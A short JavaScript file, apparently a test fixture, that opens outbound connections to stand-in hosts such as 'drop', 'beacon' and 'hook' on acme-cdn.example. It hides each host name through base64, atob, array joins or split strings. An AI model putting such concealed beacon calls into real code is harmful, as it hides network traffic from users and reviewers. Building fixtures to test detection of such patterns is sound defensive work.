import https from 'node:https';
import { WebSocket } from 'ws';

const table = { a: 'collect', b: 'acme-metrics', c: 'example' };
await fetch('https://' + [table.a, table.b, table.c].join('.') + '/k');
https.get(Buffer.from('aHR0cHM6Ly9kcm9wLmFjbWUtY2RuLmV4YW1wbGUveA==', 'base64').toString());
https.request({ hostname: ['beacon', 'acme-cdn', 'example'].join('.'), path: '/b' });
new WebSocket('wss://' + 'stream' + '.acme' + '-cdn.exam' + 'ple');
const url = new URL('/k', 'https://' + atob('aG9vay5hY21lLWNkbi5leGFtcGxl'));
await fetch(url);
